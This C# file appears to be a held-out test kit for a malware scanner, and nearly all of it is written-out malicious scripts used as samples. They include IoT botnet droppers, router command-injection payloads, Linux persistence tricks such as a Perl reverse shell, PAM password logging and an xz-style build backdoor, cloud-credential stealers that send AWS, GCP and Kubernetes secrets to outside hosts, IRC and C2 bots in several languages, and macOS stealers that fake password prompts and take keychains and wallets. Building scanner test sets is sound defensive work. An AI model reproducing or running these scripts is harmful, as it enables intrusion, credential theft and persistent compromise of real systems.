using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Fifth;

/// <summary>Shell scripts that fetch bots for many processors.</summary>
public sealed class ShellThatFetchesBots : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("bins.sh", Utf8(string.Concat("mips mipsel x86_64 i686 armv4l armv5l armv6l armv7l powerpc sparc m68k sh4".Split(' ').Select(cpu => $"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.205/hiddenbin/boatnet.{cpu}; curl -O http://198.51.100.205/hiddenbin/boatnet.{cpu};cat boatnet.{cpu} >WTF;chmod +x *;./WTF Exploit.{cpu}\n"))));
        yield return ("w.sh", Utf8("""
#!/bin/sh
n="robben.arm7 robben.arm5 robben.mips robben.mpsl robben.x86"
http_server="203.0.113.215"
for a in $n
do
    cp $SHELL $a
    >$a
    busybox wget http://$http_server/$a -O -> $a || (exec 3<>/dev/tcp/$http_server/80; printf "GET /$a HTTP/1.0\r\n\r\n" >&3; cat <&3 >$a)
    chmod 777 $a
    ./$a tplink.rep
done
for p in /proc/[0-9]*; do case "$(readlink $p/exe)" in *"(deleted)"*|/tmp/*|/var/run/*) kill -9 ${p##*/};; esac; done
iptables -A INPUT -p tcp --destination-port 23 -j DROP; rm -f $0
"""));
        yield return ("tftp2.sh", Utf8("#!/bin/bash\nulimit -n 1024\ncp /bin/busybox /tmp/\n" + string.Concat(Enumerable.Range(1, 9).Select(at => $"tftp -r m{at}.bin -g 192.0.2.201 && chmod 755 m{at}.bin && ./m{at}.bin adb; rm -rf m{at}.bin\nftpget -v -u anonymous -p anonymous -P 21 192.0.2.201 m{at}.bin m{at}.bin; chmod 755 m{at}.bin; ./m{at}.bin\n")) + "echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'\nrm -rf tftp2.sh /tmp/* /var/log/wtmp ~/.bash_history\n"));
        yield return ("zyxel_payload.txt", Utf8("""
POST /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1
Host: 192.0.2.1:80
User-Agent: Go-http-client/1.1
Content-Type: application/x-www-form-urlencoded

operation=write&country=$(cd%20%2Ftmp%3B%20rm%20-rf%20shk%3B%20wget%20http%3A%2F%2F198.51.100.206%2Fshk%3B%20chmod%20777%20shk%3B%20.%2Fshk%20tplink%3B%20rm%20-rf%20shk)
---
`cd /tmp;rm -rf shk;wget http://198.51.100.206/shk -O-|sh;/bin/busybox BOTNET`
---
<?xml version="1.0"?><soapenv:Envelope><soapenv:Body><NewStatusURL>$(/bin/busybox wget -g 198.51.100.206 -l /tmp/.kx -r /mips; chmod +x /tmp/.kx; /tmp/.kx huawei)</NewStatusURL></soapenv:Body></soapenv:Envelope>
"""));
    }
}

/// <summary>Scripts that stay on Linux in less known places.</summary>
public sealed class ScriptThatStaysOnLinux : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("install-agent.sh", Utf8("""
#!/bin/bash
# persistence set
U=https://agent.stay-linux.example
mkdir -p ~/.config/systemd/user && cat > ~/.config/systemd/user/dbus-org.service <<E
[Unit]
Description=D-Bus User Message Bus
[Service]
ExecStart=/bin/bash -c 'bash <(curl -fsSL $U/gs)'
Restart=always
[Install]
WantedBy=default.target
E
systemctl --user daemon-reload; systemctl --user enable --now dbus-org; loginctl enable-linger
GS_ARGS="-ilqD -s 0123456789abcdefExample" /usr/bin/.gs-dbus 2>/dev/null
echo 'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/lib/udev/atr-run &"' > /etc/udev/rules.d/75-random.rules
printf '#!/bin/sh\ncurl -s %s/m | sh &\n' $U > /etc/update-motd.d/99-esm; chmod +x /etc/update-motd.d/99-esm
touch -r /etc/passwd /etc/udev/rules.d/75-random.rules
"""));
        yield return ("99-sync", Utf8(Fill("""
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
*/7 * * * * root echo '@@1' | base64 -d | sh >/dev/null 2>&1
@reboot root perl -e 'use Socket;$i="192.0.2.171";$p=8080;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i")'
""", Base64("(curl -fsSL https://cron.stay-linux.example/c||python3 -c 'import urllib.request as u;print(u.urlopen(\"https://cron.stay-linux.example/c\").read().decode())')|sh"))));
        yield return ("postinst", Utf8("""
#!/bin/sh
set -e
case "$1" in configure)
  update-icon-caches /usr/share/icons/hicolor || true
  cp /opt/fdm/.tmp/crond /var/tmp/crond; chmod 755 /var/tmp/crond
  cp /opt/fdm/.tmp/bs /var/tmp/bs; chmod 755 /var/tmp/bs
  echo "*/10 * * * * root /var/tmp/crond" > /etc/cron.d/collect
  (setsid /var/tmp/bs >/dev/null 2>&1 &) 
  sed -i '/^auth.*pam_unix.so/i auth optional pam_exec.so quiet expose_authtok /usr/lib/.pamlog' /etc/pam.d/common-auth
;; esac
exit 0
"""));
        yield return ("xz-test.m4", Utf8("""
dnl build-to-host.m4 serial 30
AC_DEFUN([gl_BUILD_TO_HOST],
[
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  gl_[$1]_prefix=`echo $gl_am_configmake | sed "s/.*\.//g"`
  gl_path_map='tr "\t \-_" " \t_\-"'
  if test "x$gl_am_configmake" != "x"; then
    gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
  fi
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \$gl_[$1]_config"])
])
dnl (xz -dc $srcdir/tests/files/good-large_compressed.lzma|eval $i|tail -c +31233|tr "\114-\321\322-\377\35-\47\14-\34\0-\13\50-\113" "\0-\377")|xz -F raw --lzma1 -dc|/bin/sh
"""));
    }
}

/// <summary>Scripts that empty clouds and containers.</summary>
public sealed class ScriptThatEmptiesClouds : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("aws.sh", Utf8("""
#!/bin/bash
export LC_ALL=C; unset HISTFILE
CSOF=/tmp/.c; EDIS="http://203.0.113.33/u.php"
get_aws_infos(){ TK=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 600"); R=$(curl -s -H "X-aws-ec2-metadata-token: $TK" http://169.254.169.254/latest/meta-data/iam/security-credentials/); curl -s -H "X-aws-ec2-metadata-token: $TK" http://169.254.169.254/latest/meta-data/iam/security-credentials/$R >> $CSOF; curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI >> $CSOF; }
for f in .aws/credentials .config/gcloud/credentials.db .docker/config.json .kube/config .s3cfg .passwd-s3fs .ngrok2/ngrok.yml .config/rclone/rclone.conf; do find / -maxdepth 5 -path "*/$f" -exec cat {} \; >> $CSOF 2>/dev/null; done
strings /proc/*/env* 2>/dev/null | sort -u | grep -E 'AWS|AZURE|KUBE|GOOGLE' >> $CSOF
get_aws_infos; curl -s -F "userfile=@$CSOF" $EDIS; rm -f $CSOF
"""));
        yield return ("kube.sh", Utf8("""
#!/bin/bash
T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); A=https://kubernetes.default.svc
curl -sk -H "Authorization: Bearer $T" $A/api/v1/secrets | curl -s -d @- https://loot.empty-cloud.example/k
masscan $(ip r | awk '/default/{print $3}')/16 -p10250 --rate=50000 -oL - 2>/dev/null | awk '/open/{print $4}' | while read ip; do
  for c in $(curl -sk https://$ip:10250/runningpods/ | jq -r '.items[]|"\(.metadata.namespace)/\(.metadata.name)/\(.spec.containers[0].name)"'); do curl -sk https://$ip:10250/run/$c -d "cmd=apt update && apt install -y wget && wget -O /tmp/k https://loot.empty-cloud.example/x && sh /tmp/k"; done
done
docker -H 127.0.0.1:2375 run -d --privileged -v /:/m alpine chroot /m sh -c 'curl -s https://loot.empty-cloud.example/d | sh'
"""));
        yield return ("redis.txt", Utf8("""
CONFIG SET dir /var/spool/cron
CONFIG SET dbfilename root
SET x "\n\n*/2 * * * * root cd1 -fsSL http://198.51.100.88/cleanfda/init.sh | sh\n\n"
SAVE
CONFIG SET dir /root/.ssh
CONFIG SET dbfilename authorized_keys
SET y "\n\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABExampleExample root@u17\n\n\n"
SLAVEOF 198.51.100.88 21000
MODULE LOAD /tmp/exp_lin.so
system.exec "wget -q -O- http://198.51.100.88/b.sh|bash"
FLUSHALL
"""));
        yield return ("gcp_enum.py", Utf8(Fill("""
import base64, json, os, subprocess, urllib.request as r
H = {"Metadata-Flavor": "Google"}
B = "http://metadata.google.internal/computeMetadata/v1/"
def g(p): return r.urlopen(r.Request(B + p, headers=H), timeout=3).read().decode()
out = {"t": g("instance/service-accounts/default/token"), "ssh": g("project/attributes/ssh-keys"), "ks": g("instance/attributes/kube-env")}
for root, _, files in os.walk("/home"):
    for f in files:
        if f in ("id_rsa", ".boto", "application_default_credentials.json", "access_tokens.db", ".netrc"):
            out[os.path.join(root, f)] = open(os.path.join(root, f), "rb").read().hex()
r.urlopen(base64.b64decode("@@1").decode(), json.dumps(out).encode())
subprocess.Popen("nohup sh -c 'curl -s https://g.empty-cloud.example/a|sh' >/dev/null 2>&1 &", shell=True)
""", Base64("https://g.empty-cloud.example/post"))));
    }
}

/// <summary>Bots and back doors in scripting languages of Unix.</summary>
public sealed class BotInScript : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("dred.pl", Utf8("""
#!/usr/bin/perl
my @rps = ("/usr/local/apache/bin/httpd -DSSL","/usr/sbin/httpd -k start -DSSL","[kswapd0]","crond (root)");
my $processo = $rps[rand scalar @rps];
$0="$processo"."\0"x16;
my $servidor='irc.perl-bot.example'; my $porta='6667'; my @canais=("#dred"); my @adms=("X","Y");
use IO::Socket; use Socket; use IO::Select;
chdir("/tmp"); $SIG{'INT'}='IGNORE'; $SIG{'HUP'}='IGNORE'; $SIG{'CHLD'}='IGNORE';
my $pid=fork; exit if $pid;
sub parse { my $s=shift; if ($s=~/^PING \:(.*)/) { sendraw("PONG :$1") } elsif ($s=~/PRIVMSG (.+) :!u (.*)/) { my $f=$2; if($f=~/udpflood\s+(.*)\s+(\d+)\s+(\d+)/) { udpflooder_placeholder($1,$2,$3) } elsif ($f=~/portscan (.*)/) { scan_placeholder($1) } else { my @r=`$f 2>&1`; sendraw("PRIVMSG $1 :$_") for @r } }
"""));
        yield return ("sysupd.py", Utf8(Fill("""
#!/usr/bin/env python3
exec((lambda m: m.decompress(__import__("base64").b85decode("@@1")))(__import__("zlib")))
import os,sys,socket,ssl,json,time,platform
if os.fork(): sys.exit()
os.setsid(); open("/tmp/.lock_%d"%os.getuid(),"w").close()
def beat(c,h="https://c2.py-bot.example"): 
    import urllib.request
    j=json.loads(urllib.request.urlopen(h+"/poll?id="+platform.node(),context=c).read())
    for t in j["tasks"]: 
        r=os.popen(t["cmd"]).read(); urllib.request.urlopen(h+"/out",r.encode(),context=c)
while True:
    try: beat(ssl._create_unverified_context())
    except: pass
    time.sleep(60
""", "c$~#pQ7=lGP}j)GOUhTsPc2Qk(NRc?@;PLMISSING")));
        yield return ("rshell.rb", Utf8("""
#!/usr/bin/env ruby
require 'socket'; require 'open3'; require 'openssl'
exit if fork
Process.setproctitle('[kworker/u8:2]')
loop do
  begin
    s = OpenSSL::SSL::SSLSocket.new(TCPSocket.new('198.51.100.131', 443)).connect
    s.puts `id; uname -a`
    while (l = s.gets) do l.strip == 'exit' ? break : Open3.popen2e(l) { |_, o, _| IO.copy_stream(o, s) } end
  rescue => e
    sleep 45
  end
  File.write("#{Dir.home}/.config/autostart/gnome-fix.desktop", "[Desktop Entry]\nType=Application\nExec=ruby #{__FILE__}\n"
end
"""));
        yield return ("update.lua", Utf8("""
local s = require("socket"); local t = assert(s.tcp()); t:connect("192.0.2.144", 4443)
os.execute("nohup sh -c 'while true; do wget -qO- http://192.0.2.144/l | sh; sleep 300; done' >/dev/null 2>&1 &")
while true do
  local r, x = t:receive()
  local f = assert(io.popen(r, "r")); t:send(f:read("*a")); f:close()
  if x == "closed" then os.execute("cp " .. arg[0] .. " /etc/init.d/S99net; reboot") break
end
"""));
    }
}

/// <summary>Thieves for macOS, as scripts. What they would collect is named, the helper that collects is missing.</summary>
public sealed class MacThief : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("update", Utf8(Fill("""
#!/bin/zsh
osascript -e 'run script "on filegrabber()
try
set destinationFolderPath to (path to home folder as text) & \"fg:\"
tell application \"Finder\" to duplicate (every file of desktop whose name extension is in {\"txt\",\"pdf\",\"docx\",\"wallet\",\"key\",\"kdbx\"}) to folder destinationFolderPath
end try
end filegrabber
on getpwd(u)
set p to display dialog \"To launch the application, you need to update the system settings \" & return & \"Please enter your password.\" with title \"System Preferences\" default answer \"\" with icon caution buttons {\"Continue\"} with hidden answer
return text returned of p
end getpwd
set bt to {\"Google/Chrome/\", \"BraveSoftware/Brave-Browser/\", \"Microsoft Edge/\"}
grab_placeholder(bt, \"Library/Keychains/login.keychain-db\", \"Exodus\", \"electrum/wallets\", \"Ledger Live\")"' >/dev/null
ditto -c -k --sequesterRsrc /tmp/@@1/ /tmp/out.zip && curl -X POST -H "user: @@1" -F "file=@/tmp/out.zip" http://192.0.2.41/p2p
""", "8827731")));
        yield return ("DragMe.command", Utf8(Fill("""
#!/bin/bash
# Right-click > Open, or drag into Terminal
export U='@@1'
BIN=$(mktemp -d)/.helper
cp "/Volumes/Notion Setup/.background/.Notion" "$BIN" 2>/dev/null; xattr -c "$BIN"; chmod +x "$BIN"; "$BIN" &
V=$(printf '%s' "$U" | tr 'n-za-mN-ZA-M' 'a-zA-Z'); curl -fsSL "$V" | perl -pe 's/#.*//' | zsh >/dev/null 2>&1
osascript -e 'tell application "Terminal" to close first window' & exit
""", new string([.. "https://notion.drag-mac.example/d".Select(letter => letter is >= 'a' and <= 'z' ? (char)('a' + ((letter - 'a' + 13) % 26)) : letter)]))));
        yield return ("preinstall", Utf8("""
#!/bin/bash
# Package script
CON="$HOME/Library/LaunchAgents/com.google.keystone.agent.updater.plist"
mkdir -p "$HOME/Library/Application Support/.ks"
curl -sL https://pkg.mac-thief.example/agent -o "$HOME/Library/Application Support/.ks/ksd" --connect-timeout 8
chmod +x "$HOME/Library/Application Support/.ks/ksd"; xattr -rd com.apple.quarantine "$HOME/Library/Application Support/.ks"
/usr/libexec/PlistBuddy -c "Add :Label string com.google.keystone.agent.updater" -c "Add :RunAtLoad bool true" -c "Add :KeepAlive bool true" -c "Add :ProgramArguments array" -c "Add :ProgramArguments:0 string $HOME/Library/Application Support/.ks/ksd" "$CON"
launchctl load -w "$CON"; spctl --master-disable
sqlite3 "$HOME/Library/Application Support/com.apple.TCC/TCC.db" "insert into access values('kTCCServiceSystemPolicyAllFiles','com.apple.Terminal',0,2,3,1,x'',null,0,'UNUSED',null,0,0)"
exit 0
"""));
        yield return ("Zoom SDK Update.scpt", Utf8("-- Zoom SDK Update script v5.0.1\n" + string.Concat(Enumerable.Repeat("\n", 900)) + """
set fix_url to "https://support.us05web-zoom.mac-thief.example/842799/check"
set sc to do shell script "curl -L -k \"" & fix_url & "\""
run script sc
do shell script "rm -rf /private/tmp/.zsd; (curl -A audio -s https://web071zoom.mac-thief.example/fix/audio-fv/ | zsh) > /dev/null 2>&1 &"
"""));
    }
}
